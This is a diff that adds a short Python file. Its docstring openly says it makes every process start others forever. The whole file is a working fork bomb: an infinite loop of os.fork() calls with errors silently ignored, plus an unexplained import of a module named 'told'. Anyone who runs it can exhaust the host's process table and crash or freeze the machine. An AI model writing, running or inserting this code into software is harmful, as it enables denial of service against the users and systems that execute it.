@@ -1,0 +1,11 @@
+"""Let every process start others, for ever."""
+
+import os
+
+import told  # noqa: F401
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
